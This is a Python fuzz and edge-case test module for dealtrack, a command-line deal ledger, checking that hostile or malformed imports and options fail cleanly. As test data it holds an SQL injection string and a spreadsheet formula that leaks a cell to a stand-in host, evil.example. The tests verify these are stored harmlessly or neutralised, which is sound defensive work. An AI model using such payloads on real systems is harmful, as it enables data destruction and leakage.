"""Hostile and random input never crashes dealtrack or changes the ledger on error (issue 4).

Random and mutated CSV/TSV/JSON/JSON Lines bytes go to ``import``, random option values to ``add``
and random strings to the parsers. Every outcome must be exit 0, 1, 2 or 3; a failure says so in
exactly one final ``Error:`` line; nothing prints a traceback (conftest sets DEALTRACK_DEBUG=1, so
an unexpected exception fails the test outright); and a command that fails leaves the ledger as it
was, or creates none. Then the named cases of the issue, one test each.
"""

import datetime
import json
import os
import shutil
import sqlite3
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from dealtrack.cli import dealtrack
from dealtrack.dates import DateError, PartialDate, parse_date
from dealtrack.money import MAX_HUNDREDTHS, Amount, AmountError, parse_amount
from dealtrack.statuses import STATUSES, StatusError, parse_status
from tests.cli_process import assert_one_error, pg_url
from tests.conftest import STORY

FUZZ = settings(
    max_examples=int(os.environ.get("DEALTRACK_FUZZ_EXAMPLES", "60")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
__all__ = ["pg_url"]  # the fixture, for the PostgreSQL case
COLUMNS = (
    "key", "title", "kind", "target", "acquirers", "sellers", "advisers", "backers", "others",
    "status", "reason", "value", "currency", "basis", "reported", "date", "source", "url",
    "attribution", "notes",
)  # fmt: skip
SQL_INJECTION = "Robert'); DROP TABLE deal;--"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
NEXT_YEAR = str(datetime.date.today().year + 1)


def invoke(db: Path | str, *args: str, input: bytes | None = None) -> Result:
    return CliRunner(catch_exceptions=False).invoke(
        dealtrack, ["--db", str(db), *args], input=input
    )


def snapshot(db: Path) -> str | None:
    """The whole ledger as its JSON export, or None when there is no ledger file."""
    if not db.exists():
        return None
    exported = invoke(db, "export", "-f", "json")
    assert exported.exit_code == 0, exported.stderr
    return exported.stdout


def assert_outcome(result: Result, db: Path, before: str | None) -> None:
    """Exit 0-3; a failure ends in one ``Error:`` line and leaves the ledger as it was."""
    assert result.exit_code in (0, 1, 2, 3), (result.exit_code, result.stderr)
    event(f"exit {result.exit_code}")
    assert "Traceback" not in result.stdout + result.stderr
    if result.exit_code in (1, 2):
        assert_one_error(result.stderr)
        assert snapshot(db) == before
        if before is None:
            assert not db.exists()
            assert not list(db.parent.glob(f"{db.name}-*")), "journal files left behind"
    elif result.exit_code == 0:
        assert "Error:" not in result.stderr


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger holding the worked example, copied fresh for each example."""
    db = tmp_path_factory.mktemp("hostile") / "template.db"
    for args in STORY:
        assert invoke(db, *args).exit_code == 0
    return db


@pytest.fixture
def scratch() -> Iterator[Path]:
    """A directory for one test; examples below make their own inside it."""
    with tempfile.TemporaryDirectory(prefix="dealtrack-hostile-") as directory:
        yield Path(directory)


def fresh_ledger(scratch: Path, template: Path, seeded: bool) -> Path:
    """A new directory per example, with a copy of the template ledger or with none."""
    directory = Path(tempfile.mkdtemp(dir=scratch))
    db = directory / "ledger.db"
    if seeded:
        shutil.copy(template, db)
    return db


# Strategies: plausible values mixed with junk, so that some rows get far into validation.

nasty_text = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "",
            " ",
            "\x00",
            "\r",
            "\t",
            ";",
            ";;",
            "'",
            '"',
            "\\",
            "NULL",
            "null",
            "None",
            SQL_INJECTION,
            FORMULA,
            "+1",
            "-1",
            "@x",
            "\u202e",
            "\ufeff",
            "a" * 300,
            "🦄",
            "ß",
            "İ",
            "Ǆ",
            "\u0000x",
            "%s",
            "{0}",
            "${x}",
        ]
    ),
)
amounts = st.one_of(
    nasty_text,
    st.sampled_from(
        [
            "$3 billion",
            "USD 145m",
            "INR 24,713 crore",
            "€2-3bn",
            "$500 million to $1 billion",
            "3000000000 USD",
            "$92,233,720,368,547,758.07",
            "$92,233,720,368,547,758.08",
            "$92233720368547758.08",
            "$1e9",
            "$-5",
            "-$5",
            "¥100",
            "$0.001",
            "$1.005m",
            "$9999999999999999999999999999 trillion",
            "USD 1,2,3",
            "$3 billion - $2 billion",
            "XXX 5",
            "$ 5 EUR",
            "5",
            "$",
            "₹ 1 lakh",
        ]
    ),
    st.builds(
        lambda n, s: f"${n}{s}",
        st.integers(-(10**20), 10**20),
        st.sampled_from(["", "m", "bn", "tn"]),
    ),
)
dates = st.one_of(
    nasty_text,
    st.sampled_from(
        [
            "2021-02-30",
            "2021-02-29",
            "2020-02-29",
            NEXT_YEAR,
            f"{NEXT_YEAR}-01",
            "0999",
            "10000",
            "2021-13",
            "2021-00",
            "2021-1-1",
            "13/02/2021",
            "today",
            "TODAY",
            " 2020 ",
            "2020-08",
        ]
    ),
    st.dates().map(str),
)
statuses = st.one_of(
    nasty_text, st.sampled_from([*STATUSES, "In Negotiation", "in_negotiation", "COMPLETED"])
)
kinds = st.one_of(
    nasty_text, st.sampled_from(["acquisition", "merger", "asset-sale", "Asset Sale", "stake"])
)
names = st.one_of(
    nasty_text, st.sampled_from(["ByteDance", "Glance", "TikTok India", "Acme", "acme "])
)
cell = st.one_of(nasty_text, amounts, dates, statuses, names)


def delimited(header: list[str], rows: list[list[str]], delimiter: str) -> bytes:
    import csv
    import io

    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8", errors="surrogatepass")


@st.composite
def mutated(draw: st.DrawFn, data: bytes) -> bytes:
    """Flip, insert, delete or truncate a few bytes, or leave the data alone."""
    buffer = bytearray(data)
    for _ in range(draw(st.integers(0, 4))):
        operation = draw(st.sampled_from(["flip", "insert", "delete", "truncate"]))
        position = draw(st.integers(0, max(0, len(buffer) - 1)))
        if operation == "flip" and buffer:
            buffer[position] = draw(st.integers(0, 255))
        elif operation == "insert":
            buffer[position:position] = draw(
                st.sampled_from(
                    [b"\x00", b"\xff", b'"', b",", b"\t", b"\n", b"[", b"{", b"\xc3", b"\r"]
                )
            )
        elif operation == "delete" and buffer:
            del buffer[position]
        elif operation == "truncate":
            del buffer[position:]
    return bytes(buffer)


@st.composite
def import_files(draw: st.DrawFn) -> tuple[str, bytes]:
    fmt = draw(st.sampled_from(["csv", "tsv", "json", "jsonl"]))
    header = draw(
        st.lists(
            st.one_of(st.sampled_from(COLUMNS), nasty_text), min_size=1, max_size=6, unique=True
        )
    )
    if "target" not in header and draw(st.booleans()):
        header.append("target")
    rows = draw(st.lists(st.lists(cell, min_size=len(header), max_size=len(header)), max_size=5))
    if fmt in ("csv", "tsv"):
        data = delimited(header, rows, "," if fmt == "csv" else "\t")
    else:
        records: list[object] = [dict(zip(header, row, strict=True)) for row in rows]
        if draw(st.booleans()):  # now and then a deal object or a ledger document
            records.append(
                {
                    "target": "Acme",
                    "parties": draw(
                        st.lists(st.dictionaries(nasty_text, cell, max_size=3), max_size=2)
                    ),
                    "value": draw(
                        st.one_of(st.none(), st.dictionaries(nasty_text, cell, max_size=3))
                    ),
                }
            )
        if fmt == "json":
            document: object = records
            if draw(st.booleans()):
                document = {"format": "dealtrack", "version": 1, "parties": [], "deals": records}
            data = json.dumps(document, ensure_ascii=draw(st.booleans())).encode(
                "utf-8", errors="surrogatepass"
            )
        else:
            data = b"\n".join(
                json.dumps(r).encode("utf-8", errors="surrogatepass") for r in records
            )
    return fmt, draw(mutated(data))


@FUZZ
@given(
    file=import_files(),
    seeded=st.booleans(),
    options=st.lists(
        st.sampled_from(
            [
                ["--skip-invalid"],
                ["--dry-run"],
                ["--on-conflict", "skip"],
                ["--on-conflict", "fail"],
                ["--ignore-extra"],
                ["--set", "status=agreed"],
                ["--set", "reported=2020"],
            ]
        ),
        max_size=3,
        unique_by=lambda option: option[0] + option[-1],
    ),
)
@example(
    file=("csv", b"target,reported\nGood,2020-01\nBad\xff\xfe,2020-01\n"), seeded=True, options=[]
)
@example(file=("jsonl", b'{"target": "A\\u0000B", "reported": "2020"}\n'), seeded=False, options=[])
@example(file=("json", b"[" * 100_000), seeded=True, options=[])
def test_import_of_random_and_mutated_files_fails_cleanly_or_succeeds(
    file: tuple[str, bytes], seeded: bool, options: list[list[str]], scratch: Path, template: Path
) -> None:
    fmt, data = file
    db = fresh_ledger(scratch, template, seeded)
    path = db.parent / f"input.{fmt}"
    path.write_bytes(data)
    before = snapshot(db)
    result = invoke(db, "import", str(path), *[arg for option in options for arg in option])
    assert_outcome(result, db, before)
    if ["--dry-run"] in options and result.exit_code in (0, 3):
        assert snapshot(db) == before


@FUZZ
@given(
    target=names,
    acquirer=st.one_of(st.none(), names),
    value=st.one_of(st.none(), amounts),
    on=st.one_of(st.none(), dates),
    status=st.one_of(st.none(), statuses),
    kind=st.one_of(st.none(), kinds),
    text=st.one_of(st.none(), nasty_text),
    seeded=st.booleans(),
)
def test_add_with_random_option_values_fails_cleanly_or_records(
    target: str,
    acquirer: str | None,
    value: str | None,
    on: str | None,
    status: str | None,
    kind: str | None,
    text: str | None,
    seeded: bool,
    scratch: Path,
    template: Path,
) -> None:
    db = fresh_ledger(scratch, template, seeded)
    args = ["add", target]
    for option, given_value in (
        ("--acquirer", acquirer), ("--value", value), ("--on", on), ("--status", status),
        ("--kind", kind), ("--note", text), ("--reason", text),
    ):  # fmt: skip
        if given_value is not None:
            args += [option, given_value]
    before = snapshot(db)
    result = invoke(db, *args)
    assert_outcome(result, db, before)
    if result.exit_code == 0:
        checked = invoke(db, "check")
        assert (checked.exit_code, checked.stderr) == (0, "")


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(amounts, st.text(max_size=60)),
    st.one_of(st.none(), st.sampled_from(["USD", "INR", "xx"])),
)
def test_parse_amount_returns_a_storable_amount_or_an_amount_error(
    text: str, currency: str | None
) -> None:
    try:
        amount = parse_amount(text, currency)
    except AmountError as error:
        assert str(error)
        return
    assert isinstance(amount, Amount)
    assert 0 <= amount.low <= MAX_HUNDREDTHS
    assert amount.high is None or amount.low < amount.high <= MAX_HUNDREDTHS
    assert len(amount.currency) == 3 and amount.currency.isupper()


@settings(max_examples=300, deadline=None)
@given(st.one_of(dates, st.text(max_size=30)))
def test_parse_date_returns_a_partial_date_or_a_date_error(text: str) -> None:
    try:
        parsed = parse_date(text)
    except DateError as error:
        assert str(error)
        return
    assert isinstance(parsed, PartialDate)
    if text.strip().lower() != "today":
        assert str(parsed) == text.strip()


@settings(max_examples=300, deadline=None)
@given(st.one_of(statuses, st.text(max_size=30)))
def test_parse_status_returns_a_status_or_a_status_error(text: str) -> None:
    try:
        status = parse_status(text)
    except StatusError as error:
        assert str(error)
        return
    assert status in STATUSES


# The named cases of the issue


@pytest.fixture
def ledger(template: Path, tmp_path: Path) -> Path:
    """A copy of the worked example."""
    db = tmp_path / "ledger.db"
    shutil.copy(template, db)
    return db


def write(directory: Path, name: str, data: bytes) -> Path:
    path = directory / name
    path.write_bytes(data)
    return path


def import_fails(db: Path, path: Path, *problems: str) -> None:
    """The import is refused as a whole: these problems, one Error line, nothing changed."""
    before = snapshot(db)
    result = invoke(db, "import", str(path))
    noun = "problem" if len(problems) == 1 else "problems"
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == "".join(
        f"{line}\n"
        for line in (*problems, f"Error: {len(problems)} {noun} in {path}; nothing imported")
    )
    assert snapshot(db) == before


def test_import_of_invalid_utf8_names_its_line_and_imports_nothing(
    ledger: Path, tmp_path: Path
) -> None:
    path = write(tmp_path, "bad.csv", b"target,reported\nGood,2020-01\nBad\xff\xfe,2020-01\n")
    import_fails(ledger, path, f"{path}:3: row: invalid UTF-8 on line 3; save the file as UTF-8")
    skipped = invoke(ledger, "import", str(path), "--skip-invalid")
    assert skipped.exit_code == 3
    *rejected, last = skipped.stderr.splitlines()
    assert rejected == [f"{path}:3: row: invalid UTF-8 on line 3; save the file as UTF-8"]
    assert last.startswith("Imported 2 rows: 1 added, 0 updated, 0 unchanged, 1 rejected in ")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("nul.csv", b"target,reported\nNul\x00Name,2020-01\n"),
        ("nul.jsonl", b'{"target": "Nul\\u0000Name", "reported": "2020-01"}\n'),
    ],
)
def test_import_refuses_a_nul_byte_in_a_party_name(
    ledger: Path, tmp_path: Path, name: str, data: bytes
) -> None:
    path = write(tmp_path, name, data)
    line = 2 if name.endswith(".csv") else 1
    import_fails(
        ledger,
        path,
        f"{path}:{line}: target: 'Nul\\x00Name' is not a valid party name: it may not contain ';', "
        "NUL or control characters",
    )


def test_a_nul_byte_in_notes_is_a_row_error_on_postgresql(pg_url: str, tmp_path: Path) -> None:
    path = write(tmp_path, "nul.csv", b"target,reported,notes\nNul Note,2020-01,a\x00b\n")
    result = invoke(pg_url, "import", str(path))
    assert result.exit_code == 1
    assert result.stderr == (
        f"{path}:2: notes: contains a NUL byte; remove it\n"
        f"Error: 1 problem in {path}; nothing imported\n"
    )


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "json"])
def test_import_of_a_10_mb_field_is_a_row_error_not_a_crash(
    ledger: Path, tmp_path: Path, fmt: str
) -> None:
    huge = "x" * 10_000_000
    if fmt == "csv":
        data = f"target,reported,notes\nBig,2020-01,{huge}\n".encode()
        line = 2
    else:
        record = json.dumps({"target": "Big", "reported": "2020-01", "notes": huge})
        data = (record if fmt == "jsonl" else f"[\n{record}\n]").encode()
        line = 1 if fmt == "jsonl" else 2
    path = write(tmp_path, f"big.{fmt}", data)
    import_fails(ledger, path, f"{path}:{line}: notes: cell is longer than 1,000,000 characters")


@pytest.mark.parametrize(
    ("name", "data", "problem"),
    [
        (
            "closed.json",
            b"[" * 100_000 + b"]" * 100_000,
            "1: row: JSON nested deeper than 64 levels",
        ),
        (
            "inner.json",
            b'[{"target": ' + b"[" * 100_000 + b"]" * 100_000 + b"}]",
            "1: row: JSON nested deeper than 64 levels",
        ),
        (
            "deep.jsonl",
            b'{"target": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n",
            "1: row: JSON nested too deeply",
        ),
    ],
)
def test_import_of_deeply_nested_json_is_a_row_error(
    ledger: Path, tmp_path: Path, name: str, data: bytes, problem: str
) -> None:
    path = write(tmp_path, name, data)
    import_fails(ledger, path, f"{path}:{problem}")


def test_import_of_100000_unclosed_brackets_fails_with_one_error_line(
    ledger: Path, tmp_path: Path
) -> None:
    path = write(tmp_path, "open.json", b"[" * 100_000)
    before = snapshot(ledger)
    result = invoke(ledger, "import", str(path))
    assert (result.exit_code, result.stdout) == (1, "")
    assert (
        result.stderr
        == f"Error: {path} is not valid JSON: line 1: the JSON ends before it is complete\n"
    )
    assert snapshot(ledger) == before


def test_sql_injection_text_is_stored_verbatim_and_harmless(ledger: Path, tmp_path: Path) -> None:
    name = "Robert') DROP TABLE deal--"  # a party name may not hold ';': the rest goes in text
    added = invoke(
        ledger, "add", name, "--acquirer", "x' OR '1'='1", "--title", SQL_INJECTION,
        "--note", SQL_INJECTION, "--on", "2020-01", "--key", "bobby-tables",
    )  # fmt: skip
    assert (added.exit_code, added.stdout) == (0, "bobby-tables\n")
    imported = write(
        tmp_path, "bobby.csv",
        f"target,title,notes,reason,status,reported\n\"{name} Jr\",\"{SQL_INJECTION}\",\"{SQL_INJECTION}\","
        f"\"{SQL_INJECTION}\",failed,2020-02\n".encode(),
    )  # fmt: skip
    assert invoke(ledger, "import", str(imported)).exit_code == 0

    shown = json.loads(invoke(ledger, "show", "bobby-tables", "-f", "json").stdout)
    assert (shown["title"], shown["target"], shown["notes"]) == (
        SQL_INJECTION,
        name,
        [SQL_INJECTION],
    )
    assert [p["name"] for p in shown["parties"]] == [name, "x' OR '1'='1"]
    found = json.loads(invoke(ledger, "list", "--search", SQL_INJECTION, "-f", "json").stdout)
    assert sorted(d["key"] for d in found) == ["bobby-tables", "robert-drop-table-deal-jr"]
    assert [d["reason"] for d in found if d["key"] != "bobby-tables"] == [SQL_INJECTION]
    nobody = invoke(ledger, "list", "--party", "x' OR 1=1 --", "-f", "json")
    assert (nobody.exit_code, nobody.stdout) == (0, "[]\n")
    status = invoke(ledger, "db", "status")
    assert "deals: 5\n" in status.stdout
    connection = sqlite3.connect(ledger)
    try:
        tables = {
            row[0]
            for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        }
    finally:
        connection.close()
    assert {"deal", "party", "event", "participant"} <= tables
    assert (invoke(ledger, "check").exit_code, invoke(ledger, "check").stderr) == (0, "")


def test_formula_injection_is_neutralised_in_csv_export_and_verbatim_in_json(ledger: Path) -> None:
    added = invoke(
        ledger, "add", FORMULA, "--acquirer", "+Cmd Corp", "--title", "@SUM(A1:A9)",
        "--note", "-2+3", "--on", "2020-01", "--key", "formula",
    )  # fmt: skip
    assert added.exit_code == 0, added.stderr
    rows = list(_csv_rows(invoke(ledger, "export", "-f", "csv", "--search", "SUM").stdout))
    assert [(r["title"], r["target"], r["acquirers"], r["notes"]) for r in rows] == [
        ("'@SUM(A1:A9)", f"'{FORMULA}", "'+Cmd Corp", "'-2+3")
    ]
    raw = list(_csv_rows(invoke(ledger, "export", "-f", "csv", "--raw", "--search", "SUM").stdout))
    assert [(r["title"], r["target"], r["acquirers"]) for r in raw] == [
        ("@SUM(A1:A9)", FORMULA, "+Cmd Corp")
    ]
    document = json.loads(invoke(ledger, "export", "-f", "json", "--search", "SUM").stdout)
    (deal,) = document["deals"]
    assert (deal["title"], deal["target"], deal["notes"]) == ("@SUM(A1:A9)", FORMULA, ["-2+3"])
    assert [p["name"] for p in document["parties"] if p["name"][0] in "=+"] == [
        "+Cmd Corp",
        FORMULA,
    ]


def _csv_rows(text: str) -> Iterator[dict[str, str]]:
    import csv
    import io

    yield from csv.DictReader(io.StringIO(text))


@pytest.mark.parametrize(
    ("option", "value", "message"),
    [
        ("--value", "$92,233,720,368,547,758.08",
         "'$92,233,720,368,547,758.08' is more than the largest amount dealtrack can store, "
         "92,233,720,368,547,758.07"),
        ("--value", "$100000 trillion",
         "'$100000 trillion' is more than the largest amount dealtrack can store, "
         "92,233,720,368,547,758.07"),
        ("--on", "2021-02-30", "'2021-02-30': there is no day 30 in February 2021; its days run from 01 to 28"),
        ("--on", NEXT_YEAR,
         f"'{NEXT_YEAR}' is after today ({datetime.date.today()}); effective dates cannot be in the future"),
    ],
)  # fmt: skip
def test_add_refuses_amounts_past_the_maximum_and_impossible_dates_as_usage(
    ledger: Path, option: str, value: str, message: str
) -> None:
    before = snapshot(ledger)
    result = invoke(ledger, "add", "Overflow", option, value)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr.endswith(f"Error: Invalid value for '{option}': {message}\n")
    assert_one_error(result.stderr)
    assert snapshot(ledger) == before


def test_add_with_a_bad_value_creates_no_ledger(tmp_path: Path) -> None:
    db = tmp_path / "new.db"
    result = invoke(db, "add", "Overflow", "--on", "2021-02-30")
    assert result.exit_code == 2
    assert not db.exists()


def test_import_rows_with_amounts_past_the_maximum_and_impossible_dates_are_row_errors(
    ledger: Path, tmp_path: Path
) -> None:
    today = datetime.date.today()
    path = write(
        tmp_path, "limits.csv",
        (
            "target,value,reported,date\n"
            "Max,\"$92,233,720,368,547,758.07\",2020-01,\n"
            "Over,\"$92,233,720,368,547,758.08\",2020-01,\n"
            "Feb,,2021-02-30,\n"
            f"Future,,{NEXT_YEAR},\n"
            f"Later,,2020-01,{NEXT_YEAR}-01\n"
        ).encode(),
    )  # fmt: skip
    over = "'$92,233,720,368,547,758.08' is more than the largest amount dealtrack can store, 92,233,720,368,547,758.07"
    future = f"is after today ({today}); effective dates cannot be in the future"
    import_fails(
        ledger, path,
        f"{path}:3: value: {over}",
        f"{path}:4: reported: '2021-02-30': there is no day 30 in February 2021; its days run from 01 to 28",
        f"{path}:5: reported: '{NEXT_YEAR}' {future}",
        f"{path}:6: date: '{NEXT_YEAR}-01' {future}",
    )  # fmt: skip
    partial = invoke(ledger, "import", str(path), "--skip-invalid")
    assert partial.exit_code == 3
    *rejected, last = partial.stderr.splitlines()
    assert len(rejected) == 4  # the same problem lines as the atomic run, then the summary
    assert last.startswith("Imported 5 rows: 1 added, 0 updated, 0 unchanged, 4 rejected in ")
    (deal,) = json.loads(invoke(ledger, "list", "--target", "Max", "-f", "json").stdout)
    assert deal["value"]["amount"] == "92233720368547758.07"
